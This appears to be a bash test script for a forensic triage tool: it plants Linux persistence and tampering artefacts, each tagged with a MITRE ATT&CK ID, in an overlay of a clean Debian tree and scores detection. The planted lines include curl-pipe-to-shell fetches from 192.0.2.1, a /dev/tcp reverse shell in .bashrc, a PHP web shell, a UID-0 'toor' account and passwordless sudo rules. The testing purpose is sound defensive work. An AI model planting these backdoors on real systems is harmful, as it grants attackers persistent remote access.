#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# planted.sh DIRECTORY-OF-PROGRAMS
#
# A clean Debian has no finding above "info", and nothing of it is touched.
# Then each change below is made alone, in an overlay over that tree that is then
# read-only, and has to be found: at its place, with its technique.  The score is
# found/planted, and what else was found.  Mounts are in a namespace of its own.
if [ "${1:-}" != --inside ]; then
	exec unshare --mount "$0" --inside "$@"
fi
shift
set -euo pipefail
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

tree=$("$here/tree.sh")
root=$tmp/root
mkdir "$root" "$tmp/layer"
# An ext4, whose files have attributes, in memory.
mkdir "$tmp/memory"
mount -t tmpfs disk "$tmp/memory"
truncate -s 256M "$tmp/memory/image"
mkfs.ext4 -q "$tmp/memory/image"
mount -o loop "$tmp/memory/image" "$tmp/layer"
trap 'umount -q "$root" "$tmp/layer" "$tmp/memory" || :; rm -rf --one-file-system "$tmp"' EXIT

# A fresh disk: the tree as it was made.
attach() {
	! mountpoint -q "$root" || umount "$root"
	chattr -R -i "$tmp/layer/up" 2>/dev/null || :
	rm -rf "$tmp/layer/up" "$tmp/layer/work"
	mkdir "$tmp/layer/up" "$tmp/layer/work"
	mount -t overlay disk "$root" \
		-o "lowerdir=$tree,upperdir=$tmp/layer/up,workdir=$tmp/layer/work"
}

# What a triage might touch: times too.
stamps() {
	find "$root" -printf '%p %i %m %U %G %s %A@ %T@ %C@\n' | sort
}

# Findings above info: technique, place, rule.
findings() {
	show finding | python3 -c '
import json, sys
for line in sys.stdin:
    f = json.loads(line)["finding"]
    if f["severity"] != "SEVERITY_INFO":
        print(f["technique"], f["evidence"][0]["name"], f["rule"])
' | sort -u
}

attach
mount -o remount,ro "$root"
stamps >"$tmp/before"
triage 0 "$root"
stamps >"$tmp/after"
cmp -s "$tmp/before" "$tmp/after" || fail "it touched what it looked at"
is "findings in a clean tree" "$(findings)" ""
is "files" "$(show disk-file | wc -l)" "$(find "$root" -printf x | wc -c)"
is "packages" "$(show package | wc -l)" \
	"$(grep -c '^Package:' "$root/var/lib/dpkg/status")"
is "host" "$(basename "$(dirname "$evidence")")" "$(cat "$root/etc/hostname")"

planted=0 found=0 others=0
# plant TECHNIQUE PATH SCRIPT: run SCRIPT in the root; the finding is of PATH.
plant() {
	local got n

	attach
	(cd "$root" && bash -euc "$3") || fail "cannot plant $2"
	mount -o remount,ro "$root"
	triage 0 "$root"
	got=$(findings)
	planted=$((planted + 1))
	if grep -qF -- "$1 $2 " <<<"$got"; then
		found=$((found + 1))
	else
		printf 'NOT FOUND: %s %s; but:\n%s\n' "$1" "$2" "$got"
	fi
	n=$(grep -vF -- " $2 " <<<"$got" | grep -c . || :)
	[ "$n" = 0 ] || printf 'besides %s:\n%s\n' "$2" "$got"
	others=$((others + n))
}

lib=usr/lib/x86_64-linux-gnu

# A module that pip installed, in \$m.
# shellcheck disable=SC2016 # for the shell that plants
python_package='m=usr/local/lib/python3.11/dist-packages/mod; mkdir -p $m $m-1.dist-info; echo x=1 >$m/a.py
printf "mod/a.py,sha256=%s,4\nmod-1.dist-info/RECORD,,\n" "$(openssl dgst -binary -sha256 $m/a.py | base64 | tr +/ -_ | tr -d =)" >$m-1.dist-info/RECORD'

# What npm installed, in \$m.
# shellcheck disable=SC2016 # for the shell that plants
npm_tree='m=srv/app/node_modules; mkdir -p $m/a $m/@s/b
echo "{\"packages\":{\"node_modules/a\":{\"version\":\"1.0.0\"},\"node_modules/@s/b\":{\"version\":\"2\"}}}" >$m/.package-lock.json
echo "{\"name\":\"a\",\"version\":\"1.0.0\"}" >$m/a/package.json; echo "{\"name\":\"@s/b\",\"version\":\"2\"}" >$m/@s/b/package.json'

# What packages say.
plant T1556 "/$lib/security/pam_unix.so" "printf x >>$lib/security/pam_unix.so"
plant T1556 /usr/sbin/sshd "printf x >>usr/sbin/sshd"
plant T1556 "/$lib/liblzma.so.5.4.1" "printf x >>$lib/liblzma.so.5.4.1"
plant T1554 /usr/bin/ls "printf x >>usr/bin/ls"
plant T1554 /usr/bin/find "ln -sf /tmp/find usr/bin/find"
plant T1554 /usr/sbin/service "echo id >>usr/sbin/service"
plant T1548.001 /usr/bin/chsh "printf x >>usr/bin/chsh"
plant T1565.001 /usr/share/zoneinfo/Europe/Paris \
	"printf x >>usr/share/zoneinfo/Europe/Paris || printf x >usr/share/zoneinfo/Europe/Paris"
plant T1070.004 /usr/bin/last "rm usr/bin/last"
plant T1556.003 "/$lib/security/pam_evil.so" "cp usr/bin/true $lib/security/pam_evil.so"
plant T1548.001 /opt/rootsh "mkdir -p opt; cp bin/dash opt/rootsh; chmod 4755 opt/rootsh"
plant T1036.005 /usr/bin/kworkerd "cp usr/bin/true usr/bin/kworkerd"
plant T1036.005 "/$lib/libnot.so.1" "cp usr/bin/true $lib/libnot.so.1"
plant T1036.005 /usr/local/bin/backup "cp usr/bin/true usr/local/bin/backup"
plant T1547.006 /usr/lib/modules/6.1.0/extra/evil.ko \
	"mkdir -p lib/modules/6.1.0/extra; echo x >lib/modules/6.1.0/extra/evil.ko"
plant T1059 /tmp/.x/run "mkdir tmp/.x; cp usr/bin/true tmp/.x/run"
plant T1059 /dev/shm/m "mkdir dev/shm; cp usr/bin/true dev/shm/m"

# What runs by itself.
plant T1543.002 /etc/systemd/system/a.service \
	"printf '[Service]\nExecStart=/usr/bin/env\n' >etc/systemd/system/a.service"
plant T1543.002 /etc/systemd/system/ssh.service.d/a.conf \
	"mkdir etc/systemd/system/ssh.service.d; printf '[Service]\nExecStartPre=/tmp/x\n' >etc/systemd/system/ssh.service.d/a.conf"
plant T1053.006 /etc/systemd/system/a.timer \
	"printf '[Timer]\nOnBootSec=1\n' >etc/systemd/system/a.timer"
plant T1543.002 /root/.config/systemd/user/u.service \
	"mkdir -p root/.config/systemd/user; printf '[Service]\nExecStart=/bin/x\n' >root/.config/systemd/user/u.service"
plant T1543.002 /usr/lib/systemd/system-generators/g \
	"echo id >usr/lib/systemd/system-generators/g"
plant T1543.002 /usr/lib/systemd/system/cron.service \
	"sed -i 's,^ExecStart=,ExecStart=/tmp/x ,' usr/lib/systemd/system/cron.service"
plant T1053.003 /etc/cron.d/a "echo '* * * * * root /usr/bin/env' >etc/cron.d/a"
plant T1053.003 /etc/crontab "echo '* * * * * root curl http://192.0.2.1/x|sh' >>etc/crontab"
plant T1053.003 /var/spool/cron/crontabs/root \
	"echo '* * * * * /dev/shm/x' >var/spool/cron/crontabs/root"
plant T1053.003 /etc/cron.daily/a "printf '#!/bin/sh\nid\n' >etc/cron.daily/a"
plant T1574.006 /etc/ld.so.preload "echo /$lib/libm.so.6 >etc/ld.so.preload"
plant T1574.006 /etc/ld.so.conf.d/0.conf "echo /opt/lib >etc/ld.so.conf.d/0.conf"
plant T1556.003 /etc/pam.d/sshd \
	"sed -i '1i auth optional pam_exec.so quiet /opt/x' etc/pam.d/sshd"
plant T1556.003 /etc/pam.d/common-auth \
	"sed -i '1i auth sufficient pam_permit.so' etc/pam.d/common-auth"
plant T1098.004 /root/.ssh/authorized_keys \
	"mkdir -p root/.ssh; echo 'ssh-ed25519 AAAA x' >root/.ssh/authorized_keys"
plant T1098.004 /home/u/.ssh/authorized_keys \
	"mkdir -p home/u/.ssh; echo 'command=\"/x\" ssh-rsa A x' >home/u/.ssh/authorized_keys"
plant T1098.004 /etc/ssh/sshrc "echo id >etc/ssh/sshrc"
plant T1556 /etc/ssh/sshd_config "echo 'PermitRootLogin yes' >>etc/ssh/sshd_config"
plant T1556 /etc/ssh/sshd_config.d/a.conf \
	"echo 'AuthorizedKeysFile /etc/ssh/k' >etc/ssh/sshd_config.d/a.conf"
plant T1548.003 /etc/sudoers.d/a "echo 'u ALL=(ALL) NOPASSWD: ALL' >etc/sudoers.d/a"
plant T1548.003 /etc/sudoers "echo 'u ALL=(ALL) NOPASSWD: ALL' >>etc/sudoers"
plant T1546.004 /etc/profile.d/a.sh "echo id >etc/profile.d/a.sh"
plant T1546.004 /root/.bashrc "echo 'bash -i >& /dev/tcp/192.0.2.1/1' >>root/.bashrc"
plant T1546.004 /etc/environment "echo LD_PRELOAD=/x.so >>etc/environment"
plant T1546.017 /etc/udev/rules.d/a.rules \
	"echo 'ACTION==\"add\", RUN+=\"/x\"' >etc/udev/rules.d/a.rules"
plant T1547.006 /etc/modules-load.d/a.conf "echo evil >etc/modules-load.d/a.conf"
plant T1547.006 /etc/modprobe.d/a.conf "mkdir -p etc/modprobe.d; echo 'install loop /x' >etc/modprobe.d/a.conf"
plant T1037.004 /etc/rc.local "printf '#!/bin/sh\nid\n' >etc/rc.local"
plant T1037.004 /etc/init.d/a "printf '#!/bin/sh\nid\n' >etc/init.d/a"
plant T1546.016 /etc/apt/apt.conf.d/a \
	"echo 'APT::Update::Post-Invoke {\"id\";};' >etc/apt/apt.conf.d/a"
plant T1037 /etc/update-motd.d/99-a "mkdir -p etc/update-motd.d; echo id >etc/update-motd.d/99-a"
plant T1546.018 /usr/lib/python3/dist-packages/a.pth \
	"mkdir -p usr/lib/python3/dist-packages; echo 'import os' >usr/lib/python3/dist-packages/a.pth"
plant T1546.018 /usr/local/lib/python3.11/dist-packages/usercustomize.py \
	"mkdir -p usr/local/lib/python3.11/dist-packages; echo 'print(1)' >usr/local/lib/python3.11/dist-packages/usercustomize.py"
plant T1547.013 /etc/xdg/autostart/a.desktop \
	"mkdir -p etc/xdg/autostart; echo Exec=/x >etc/xdg/autostart/a.desktop"
plant T1543.005 /etc/kubernetes/manifests/a.yaml \
	"mkdir -p etc/kubernetes/manifests; echo 'kind: Pod' >etc/kubernetes/manifests/a.yaml"

# More of systemd, sessions and hooks.
plant T1574.006 /etc/environment.d/a.conf "mkdir -p etc/environment.d; echo LD_PRELOAD=/x.so >etc/environment.d/a.conf"
plant T1543.002 /var/lib/machines/a.raw "mkdir -p var/lib/machines; echo x >var/lib/machines/a.raw"
plant T1543.002 /etc/tmpfiles.d/a.conf "mkdir -p etc/tmpfiles.d; echo 'f /etc/cron.d/x 0644 root root - x' >etc/tmpfiles.d/a.conf"
plant T1546 /etc/binfmt.d/a.conf "mkdir -p etc/binfmt.d; echo ':x:M::ELF::/x:' >etc/binfmt.d/a.conf"
plant T1562.001 /etc/sysctl.d/a.conf "mkdir -p etc/sysctl.d; echo 'kernel.core_pattern = |/x' >etc/sysctl.d/a.conf"
plant T1053.002 /var/spool/cron/atjobs/a0001 "mkdir -p var/spool/cron/atjobs; printf '#!/bin/sh\nid\n' >var/spool/cron/atjobs/a0001"
plant T1037.004 /etc/default/cron "echo 'curl http://192.0.2.1/x|sh' >>etc/default/cron"
plant T1053.003 /etc/logrotate.d/a "printf '/var/log/x {\npostrotate\n/x\nendscript\n}\n' >etc/logrotate.d/a"
plant T1546 /etc/NetworkManager/dispatcher.d/a "mkdir -p etc/NetworkManager/dispatcher.d; printf '#!/bin/sh\nid\n' >etc/NetworkManager/dispatcher.d/a"
plant T1546 /etc/dhcp/dhclient-exit-hooks.d/a "mkdir -p etc/dhcp/dhclient-exit-hooks.d; echo id >etc/dhcp/dhclient-exit-hooks.d/a"
plant T1547.013 /home/u/.config/autostart/a.desktop "mkdir -p home/u/.config/autostart; echo Exec=/tmp/x >home/u/.config/autostart/a.desktop"
plant T1543 /usr/share/dbus-1/system-services/a.service "mkdir -p usr/share/dbus-1/system-services; printf '[D-BUS Service]\nExec=/x\n' >usr/share/dbus-1/system-services/a.service"
plant T1543.002 /usr/lib/systemd/system/ssh.service "sed -i 's,^ExecStart=,Environment=LD_PRELOAD=/x.so\nExecStart=,' usr/lib/systemd/system/ssh.service"

# Who gets in.
plant T1136.001 /etc/passwd "echo 'toor:x:0:0::/root:/bin/bash' >>etc/passwd"
plant T1136.001 /etc/shadow "echo 'u::19000:0:99999:7:::' >>etc/shadow"
plant T1546 /root/.ssh/config "mkdir -p root/.ssh; printf 'Host *\nProxyCommand /tmp/x %%h\n' >root/.ssh/config"
plant T1548 /etc/polkit-1/rules.d/a.rules "mkdir -p etc/polkit-1/rules.d; echo 'polkit.addRule(function(){return polkit.Result.YES;});' >etc/polkit-1/rules.d/a.rules"
plant T1546.004 /root/.zshenv "echo 'alias sudo=/tmp/s' >root/.zshenv"
plant T1546.004 /home/u/.bash_profile "mkdir -p home/u; echo 'export BASH_ENV=/home/u/.x' >home/u/.bash_profile"
plant T1098.004 /var/lib/git/.ssh/authorized_keys "mkdir -p var/lib/git/.ssh; echo 'ssh-rsa A x' >var/lib/git/.ssh/authorized_keys"

# What the boot loader, the kernel and packagers load.
plant T1542 /etc/initramfs-tools/scripts/init-top/a "mkdir -p etc/initramfs-tools/scripts/init-top; printf '#!/bin/sh\nid\n' >etc/initramfs-tools/scripts/init-top/a"
plant T1542 /boot/initrd.img-6.1 "mkdir -p boot $tmp/i/bin; cp bin/dash $tmp/i/bin/sh; printf '#!/bin/sh\nid\n' >$tmp/i/bin/x; (cd $tmp/i; find . | cpio --quiet -o -H newc | zstd -q) >boot/initrd.img-6.1"
plant T1542.003 /boot/grub/grub.cfg "mkdir -p boot/grub; echo 'linux /vmlinuz root=/dev/vda1 init=/opt/x' >boot/grub/grub.cfg"
plant T1542.003 /etc/grub.d/09_a "mkdir -p etc/grub.d; printf '#!/bin/sh\nid\n' >etc/grub.d/09_a"
plant T1547.006 /etc/dkms/a.conf "mkdir -p etc/dkms; echo 'POST_BUILD=/x' >etc/dkms/a.conf"
plant T1546.016 /etc/dnf/plugins/a.conf "mkdir -p etc/dnf/plugins; echo '[main]' >etc/dnf/plugins/a.conf"
plant T1195.002 /etc/apt/sources.list.d/a.list "echo 'deb [trusted=yes] http://192.0.2.1/ x y' >etc/apt/sources.list.d/a.list"

# What interpreters, tools and web servers load.
plant T1546 /etc/perl/sitecustomize.pl "mkdir -p etc/perl; echo 'print 1' >etc/perl/sitecustomize.pl"
plant T1505.003 /etc/php/8.2/cli/conf.d/99-a.ini "mkdir -p etc/php/8.2/cli/conf.d; echo 'auto_prepend_file = /x.php' >etc/php/8.2/cli/conf.d/99-a.ini"
plant T1195.001 /root/.config/pip/pip.conf "mkdir -p root/.config/pip; printf '[global]\nindex-url = http://192.0.2.1/\n' >root/.config/pip/pip.conf"
plant T1546 /root/.gitconfig "printf '[core]\n\tfsmonitor = /tmp/x\n' >root/.gitconfig"
plant T1546 /srv/repo/.git/hooks/post-checkout "mkdir -p srv/repo/.git/hooks; printf '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' >srv/repo/.git/hooks/post-checkout"
plant T1546 /root/.vimrc "echo 'autocmd BufRead * call system(\"/tmp/x\")' >root/.vimrc"
plant T1505.003 /var/www/html/a.php "mkdir -p var/www/html; echo '<?php system(\$_GET[\"c\"]); ?>' >var/www/html/a.php"
plant T1505.003 /var/www/html/img/.htaccess "mkdir -p var/www/html/img; echo 'SetHandler application/x-httpd-php' >var/www/html/img/.htaccess"
plant T1505 /etc/apache2/mods-enabled/a.load "mkdir -p etc/apache2/mods-enabled; echo 'LoadModule x /tmp/x.so' >etc/apache2/mods-enabled/a.load"

# Containers and clouds.
plant T1543.005 /var/lib/kubelet/config.yaml "mkdir -p var/lib/kubelet; echo 'staticPodPath: /opt/pods' >var/lib/kubelet/config.yaml"
plant T1543.005 /etc/docker/daemon.json "mkdir -p etc/docker; echo '{\"hosts\":[\"tcp://0.0.0.0:2375\"]}' >etc/docker/daemon.json"
plant T1543.005 /etc/containers/oci/hooks.d/a.json "mkdir -p etc/containers/oci/hooks.d; echo '{\"hook\":{\"path\":\"/x\"}}' >etc/containers/oci/hooks.d/a.json"
plant T1543.005 /etc/containers/systemd/a.container "mkdir -p etc/containers/systemd; printf '[Container]\nImage=x\n' >etc/containers/systemd/a.container"
plant T1610 /var/lib/docker/containers/aa/hostconfig.json "mkdir -p var/lib/docker/containers/aa; echo '{\"Binds\":[\"/:/host\"],\"Privileged\":true}' >var/lib/docker/containers/aa/hostconfig.json"
plant T1105 /var/lib/docker/overlay2/bb/diff/opt/x \
	"cd var/lib; mkdir -p docker/containers/aa docker/image/overlay2/layerdb/mounts/aa docker/overlay2/bb/diff/opt; echo '{\"Name\":\"/web\",\"Config\":{\"Image\":\"nginx\"}}' >docker/containers/aa/config.v2.json; printf bb >docker/image/overlay2/layerdb/mounts/aa/mount-id; cp ../../bin/true docker/overlay2/bb/diff/opt/x"
plant T1105 /var/lib/containers/storage/overlay/bb/diff/x \
	"cd var/lib; mkdir -p containers/storage/overlay-containers containers/storage/overlay/bb/diff; echo '[{\"id\":\"aa\",\"names\":[\"web\"],\"image\":\"nginx\",\"layer\":\"bb\"}]' >containers/storage/overlay-containers/containers.json; printf '#!/bin/sh\nid\n' >containers/storage/overlay/bb/diff/x; chmod 755 containers/storage/overlay/bb/diff/x"
plant T1543 /etc/cni/net.d/a.conf "mkdir -p etc/cni/net.d; echo '{\"type\":\"/tmp/x\"}' >etc/cni/net.d/a.conf"
plant T1037 /var/lib/cloud/scripts/per-boot/a.sh "mkdir -p var/lib/cloud/scripts/per-boot; printf '#!/bin/sh\nid\n' >var/lib/cloud/scripts/per-boot/a.sh"
plant T1037 /var/lib/cloud/instances/i/user-data.txt "mkdir -p var/lib/cloud/instances/i; printf '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' >var/lib/cloud/instances/i/user-data.txt"
plant T1651 /var/lib/amazon/ssm/i-1/document/orchestration/a/b/_script.sh \
	"mkdir -p var/lib/amazon/ssm/i-1/document/orchestration/a/b; echo 'curl http://192.0.2.1/x|sh' >var/lib/amazon/ssm/i-1/document/orchestration/a/b/_script.sh"

# Of languages.
plant T1554 /usr/local/lib/python3.11/dist-packages/mod/a.py "$python_package; echo evil >>\$m/a.py"
plant T1195.001 evil "$npm_tree; mkdir \$m/evil; echo '{\"name\":\"evil\",\"version\":\"1\"}' >\$m/evil/package.json"
plant T1195.001 a "$npm_tree; echo '{\"name\":\"a\",\"version\":\"6.6.6\"}' >\$m/a/package.json"
plant T1554 /usr/lib/python3.11/os.py "echo evil >>usr/lib/python3.11/os.py"

# Rights, attributes and names.
plant T1548.001 /usr/bin/find "chmod u+s usr/bin/find"
plant T1548 /usr/bin/perl "setcap cap_setuid+ep usr/bin/perl"
plant T1222.002 /root/.profile "chattr +i root/.profile"
plant T1564.001 "/var/tmp/..." "mkdir var/tmp/..."
plant T1006 /srv/disk "mknod srv/disk b 252 0"

printf 'planted changes: %d of %d found, %d findings besides\n' \
	"$found" "$planted" "$others"
is "planted changes found" "$found" "$planted"
done_testing
